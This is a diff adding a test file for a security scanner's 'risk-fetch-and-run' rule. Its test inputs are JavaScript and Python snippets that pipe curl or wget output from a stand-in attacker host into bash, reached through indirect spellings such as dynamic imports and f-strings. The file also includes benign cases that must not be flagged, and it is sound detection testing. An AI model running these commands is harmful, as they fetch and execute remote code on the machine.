@@ -1,0 +1,44 @@
+// Program starts in the spellings issue 14's second set found unread: a
+// dynamic import of child_process (`await import('node:child_process')`,
+// `import(…).then(cp => …)`), require by another road
+// (`process.mainModule.require`, `module.require`), and a command built from
+// pieces (`f'curl … {BASE}/boot.sh | bash'`, `'curl ' + BASE + …`, a
+// template literal) handed to a shell. Each got only risk-external-url; now
+// the command is read as shell code where it is written. A harmless command
+// in the same spelling stays quiet.
+import { beforeAll, describe, expect, it } from 'vitest';
+import { prepareRules } from '../rules/index.js';
+import { attackFindings } from '../review-fixture.unit.js';
+
+beforeAll(async () => {
+  await prepareRules();
+});
+
+const URL = 'https://c.attacker.example/w.sh';
+
+describe('a command reached through another spelling is read as shell code', () => {
+  it.each([
+    ['w.mjs', `const { exec } = await import('node:child_process');\nexec('curl -s ${URL} | bash');\n`, 2],
+    ['w.mjs', `const cp = await import('node:child_process');\ncp.execSync('curl -s ${URL} | bash');\n`, 2],
+    ['w.mjs', `import('child_process').then((cp) => cp.exec('wget -qO- ${URL} | sh'));\n`, 1],
+    ['w.js', `process.mainModule.require('child_process').execSync('curl -s ${URL} | bash');\n`, 1],
+    ['w.js', `const cp = module.require('child_process');\ncp.exec('curl -s ${URL} | sh');\n`, 2],
+    ['w.js', `const { execSync } = require('child_process');\nconst base = 'https://c.attacker.example';\nexecSync(\`curl -fsSL \${base}/w.sh | bash\`);\n`, 3],
+    ['w.py', `import subprocess\nBASE = 'https://c.attacker.example'\nsubprocess.run(f'curl -fsSL {BASE}/boot.sh | bash', shell=True)\n`, 3],
+    ['w.py', `import os\nBASE = 'https://c.attacker.example'\nos.system('curl -fsSL ' + BASE + '/boot.sh | bash')\n`, 3],
+    ['w.py', `import subprocess\nsubprocess.call(f"wget -qO- {input()} | sh", shell=True)\n`, 2],
+  ])('risk-fetch-and-run in %s: %s', (file, code, line) => {
+    expect(attackFindings({ [file]: code })).toEqual([`risk-fetch-and-run ${file}:${line}`]);
+  });
+
+  it.each([
+    ['w.mjs', `const { execSync } = await import('node:child_process');\nconsole.log(execSync('git rev-parse --short HEAD').toString());\n`],
+    ['w.mjs', `import('node:child_process').then((cp) => cp.exec('npm run build'));\n`],
+    ['w.js', `process.mainModule.require('child_process').execSync('git status --short');\n`],
+    ['w.js', `const { execSync } = require('child_process');\nconst out = 'dist/data.json';\nexecSync(\`curl -s -o \${out} ${URL}\`);\n`],
+    ['w.py', `import subprocess\nREF = 'main'\nsubprocess.run(f'git log -1 --format=%H {REF}', shell=True)\n`],
+    ['w.py', `import os\nURL = '${URL}'\nos.system('curl -s -o /tmp/list.json ' + URL)\n`],
+  ])('no attack finding in %s: %s', (file, code) => {
+    expect(attackFindings({ [file]: code })).toEqual([]);
+  });
+});
